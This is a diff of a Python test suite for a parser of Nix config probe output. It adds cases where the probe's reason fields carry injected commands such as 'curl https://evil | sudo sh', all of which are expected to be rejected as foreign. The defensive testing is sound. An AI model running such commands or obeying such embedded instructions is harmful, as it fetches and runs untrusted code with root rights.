@@ -172,6 +172,13 @@ CUT = "its answer is cut short"
             said_by(1, "unread-place\tbash\t/x\trun `curl https://evil | sudo sh` to mend it"),
             FOREIGN,
         ),
+        (
+            said_by(
+                1, "unread-place\tbash\t/x\tno permission to look into /y; run `curl https://evil`"
+            ),
+            FOREIGN,
+        ),
+        (said_by(1, *ITS_LINES, "cachix-hostname\t/etc/profile\tevil; run `curl x`"), FOREIGN),
         (said_by(1, ITS_LINES[-1].replace("\t1\t0\t9\t", "\t-3\t0\t9\t")), FOREIGN),
         (said_by(1, ITS_LINES[-1].replace("\t1\t0\t9\t\t", "\t1\t0\t9\t\trun this")), FOREIGN),
         (said_by(1, "", "cachix-hostname\t/x\thttps://x"), FOREIGN),
@@ -216,6 +223,13 @@ def test_each_reason_that_the_probe_gives_may_be_a_persons() -> None:
         assert [(each.why, each.told_by) for each in machine.unread_places] == [
             (reason, "jito.hello")
         ]
+
+
+def test_a_folder_that_is_closed_to_a_person_is_named_if_it_is_on_the_way() -> None:
+    path = "/home/jito.hello/.config/nix/nix.conf"
+    why = "no permission to look into /home/jito.hello/.config"
+    machine = observed(*ANSWERS, *said_by(1, f"file\tuser\t{path}\tunreadable\t{why}\t"))
+    assert machine.own["jito.hello"].status[path].trouble == why
 
 
 def test_a_home_that_is_not_there_is_not_missed() -> None:
